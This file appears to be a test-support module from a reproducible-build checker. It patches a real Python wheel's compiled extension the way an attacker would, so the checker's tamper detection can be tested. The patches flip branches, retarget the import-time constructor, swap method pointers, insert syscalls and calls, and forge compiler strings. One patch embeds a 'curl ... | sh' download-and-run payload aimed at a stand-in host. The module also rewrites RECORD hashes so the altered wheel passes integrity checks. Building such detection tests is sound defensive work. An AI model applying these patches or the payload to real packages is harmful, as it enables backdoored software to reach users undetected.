"""A tamper corpus: a real published extension patched the way an attacker would, in place.

Each patch takes the bytes of a shared object and returns a copy of the same size with one
malicious change, located with the facts :func:`rebuild.compare.elf_read.read_elf` gives (symbols,
sections, relocations, initialisers), so that it applies to any build of the same module, not to
fixed offsets. :func:`tampered_wheel` puts the patched member back into a copy of the wheel with
its RECORD row rewritten to match, as a careful attacker would ship it. Nothing here is stored:
the tests download the real wheel and patch it when they run.
"""

from __future__ import annotations

import base64
import hashlib
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import capstone

from rebuild.compare.elf_read import ElfImage, Section, Symbol, read_elf

Patch = Callable[[bytes], bytes]

PAYLOAD = b"curl -s http://198.51.100.7/x|sh"
R_X86_64_RELATIVE = 8
RELA_ENTRY = 24
# What the rebuild's compiler writes into .comment: the edit claims the rebuild's toolchain.
CLAIMED_COMMENT = b"GCC: (Debian 12.2.0-14) 12.2.0"


def _function(image: ElfImage, name: str) -> Symbol:
    return next(s for s in image.symbols if s.name == name and s.kind == "STT_FUNC" and s.size)


def _object(image: ElfImage, name: str) -> Symbol:
    return next(s for s in image.symbols if s.name == name and s.kind == "STT_OBJECT")


def _section(image: ElfImage, name: str) -> Section:
    return next(s for s in image.sections if s.name == name)


def file_offset(image: ElfImage, addr: int) -> int:
    """Where the byte loaded at ``addr`` lies in the file."""
    section = image.section_at(addr)
    assert section is not None and section.kind != "SHT_NOBITS", f"{addr:#x} is not in the file"
    return section.offset + addr - section.addr


def instructions(image: ElfImage, symbol: Symbol) -> list[tuple[int, int, str, str]]:
    """(address, size, mnemonic, operands) of a function's code."""
    code = image.bytes_at(symbol.value, symbol.size)
    decoder = capstone.Cs(capstone.CS_ARCH_X86, capstone.CS_MODE_64)
    return list(decoder.disasm_lite(code, symbol.value))


def _overwrite(data: bytes, offset: int, new: bytes) -> bytes:
    patched = bytearray(data)
    patched[offset : offset + len(new)] = new
    assert len(patched) == len(data)
    return bytes(patched)


def flip_branch(data: bytes, function: str = "escape_unicode") -> bytes:
    """The first ``je`` inside ``function`` made a ``jne``: the test of a condition inverted."""
    image = read_elf(data)
    for address, _size, mnemonic, _ in instructions(image, _function(image, function)):
        if mnemonic == "je":
            at = file_offset(image, address)
            # je rel8 is 74, je rel32 is 0f 84; jne is 75 and 0f 85.
            at += 0 if data[at] == 0x74 else 1
            return _overwrite(data, at, bytes([data[at] + 1]))
    raise AssertionError(f"no je in {function}")


def inject_string(data: bytes, minimum: int = 32) -> bytes:
    """The first printable run of ``minimum``+ bytes in .rodata (a docstring) made a command."""
    image = read_elf(data)
    rodata = _section(image, ".rodata")
    blob = image.section_bytes(rodata)
    start = 0
    while start < len(blob):
        end = blob.index(b"\0", start)
        if end - start >= minimum and all(0x20 <= b < 0x7F or b == 0x0A for b in blob[start:end]):
            replacement = PAYLOAD.ljust(end - start, b"\0")
            return _overwrite(data, rodata.offset + start, replacement)
        start = end + 1
    raise AssertionError("no docstring in .rodata")


def edit_comment(data: bytes, comment: bytes = CLAIMED_COMMENT) -> bytes:
    """Every compiler string of .comment replaced by ``comment``: another toolchain claimed."""
    image = read_elf(data)
    section = _section(image, ".comment")
    blob = image.section_bytes(section)
    parts = [comment if part.startswith(b"GCC:") else part for part in blob.split(b"\0")]
    rewritten = b"\0".join(parts)[: len(blob)].ljust(len(blob), b"\0")
    return _overwrite(data, section.offset, rewritten)


def comment_and_syscall(data: bytes) -> bytes:
    """.comment made to name the rebuild's compiler, together with a raw syscall in the code."""
    return add_syscall(edit_comment(data))


def _rela_entry(image: ElfImage, slot: int, kind: int = R_X86_64_RELATIVE) -> int:
    """The file offset of the RELA entry of type ``kind`` that relocates the word at ``slot``."""
    for section in image.sections:
        if section.kind != "SHT_RELA" or not section.allocated:
            continue
        blob = image.section_bytes(section)
        for at in range(0, len(blob) - RELA_ENTRY + 1, RELA_ENTRY):
            offset, info, _ = struct.unpack_from("<QQq", blob, at)
            if offset == slot and info & 0xFFFFFFFF == kind:
                return section.offset + at
    raise AssertionError(f"no relocation of type {kind} at {slot:#x}")


def retarget_relocation(data: bytes, symbol: str, kind: int, to: str) -> bytes:
    """The one relocation of type ``kind`` against ``symbol`` made to name ``to`` instead: only
    the symbol index of its r_info changes."""
    image = read_elf(data)
    (slot,) = [r.offset for r in image.relocations if r.symbol == symbol and r.kind == kind]
    # dynamic_symbols keeps the table's order, the null symbol first: its index is r_info's.
    (index,) = [i for i, s in enumerate(image.dynamic_symbols) if s.name == to]
    info = struct.pack("<Q", (index << 32) | kind)
    return _overwrite(data, _rela_entry(image, slot, kind) + 8, info)


def _set_addend(data: bytes, image: ElfImage, slot: int, addend: int) -> bytes:
    return _overwrite(data, _rela_entry(image, slot) + 16, struct.pack("<q", addend))


def retarget_constructor(data: bytes, target: str = "escape_silent") -> bytes:
    """The .init_array slot relocated to ``target``: it runs whenever the module is imported."""
    image = read_elf(data)
    (entry,) = [e for e in image.initialisers if e.table == ".init_array"][:1]
    return _set_addend(data, image, entry.slot, _function(image, target).value)


def swap_methods(data: bytes, table: str = "module_methods") -> bytes:
    """The ml_meth pointers of the first two PyMethodDef entries swapped (escape <-> another)."""
    image = read_elf(data)
    methods = _object(image, table)
    functions = {s.value for s in image.symbols if s.kind == "STT_FUNC"}
    # PyMethodDef is {ml_name, ml_meth, ml_flags, ml_doc}: 32 bytes, ml_meth at +8.
    slots = [
        r
        for r in image.relocations
        if methods.value <= r.offset < methods.value + methods.size
        and (r.offset - methods.value) % 32 == 8
        and r.addend in functions
    ]
    first, second = slots[0], slots[1]
    swapped = _set_addend(data, image, first.offset, second.addend)
    return _set_addend(swapped, image, second.offset, first.addend)


def add_syscall(data: bytes, function: str = "escape") -> bytes:
    """A raw ``syscall`` written over an instruction in the middle of ``function``."""
    image = read_elf(data)
    code = instructions(image, _function(image, function))
    for address, size, _, _ in code[len(code) // 2 :]:
        if size >= 2:
            # syscall is 0f 05; nops keep the instructions after it where they were.
            return _overwrite(data, file_offset(image, address), b"\x0f\x05" + b"\x90" * (size - 2))
    raise AssertionError(f"no instruction of 2+ bytes in {function}")


def add_call(
    data: bytes, caller: str = "PyInit__speedups", callee: str = "escape_unicode"
) -> bytes:
    """A ``call callee`` written over a 5-byte instruction of ``caller`` that is not a branch."""
    image = read_elf(data)
    target = _function(image, callee).value
    for address, size, mnemonic, _ in instructions(image, _function(image, caller)):
        if size == 5 and not mnemonic.startswith(("call", "j")):
            rel = struct.pack("<i", target - (address + 5))
            return _overwrite(data, file_offset(image, address), b"\xe8" + rel)
    raise AssertionError(f"no 5-byte instruction in {caller}")


# Each kind of tampering, by name: what the tests parametrise over.
PATCHES: dict[str, Patch] = {
    "branch-flipped": flip_branch,
    "string-injected": inject_string,
    "comment-and-code": comment_and_syscall,
    "constructor-retargeted": retarget_constructor,
    "methods-swapped": swap_methods,
    "syscall-added": add_syscall,
    "call-added": add_call,
}


def _record_hash(data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=")
    return "sha256=" + digest.decode()


def extension_member(wheel: Path) -> str:
    """The wheel's (largest) shared object."""
    with zipfile.ZipFile(wheel) as archive:
        infos = [i for i in archive.infolist() if i.filename.endswith(".so")]
    return max(infos, key=lambda i: i.file_size).filename


def tampered_wheel(wheel: Path, dest: Path, patch: Patch, member: str | None = None) -> Path:
    """A copy of ``wheel`` with ``member`` (its extension) patched and RECORD rewritten to match."""
    member = member or extension_member(wheel)
    dest.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(wheel) as source, zipfile.ZipFile(dest, "w") as target:
        infos = source.infolist()
        record = next(i.filename for i in infos if i.filename.endswith(".dist-info/RECORD"))
        changed = patch(source.read(member))
        for info in infos:
            data = source.read(info)
            if info.filename == member:
                data = changed
            elif info.filename == record:
                rows = [
                    f"{member},{_record_hash(changed)},{len(changed)}"
                    if row.startswith(f"{member},")
                    else row
                    for row in data.decode().splitlines()
                ]
                data = ("\n".join(rows) + "\n").encode()
            target.writestr(info, data, compress_type=info.compress_type)
    return dest
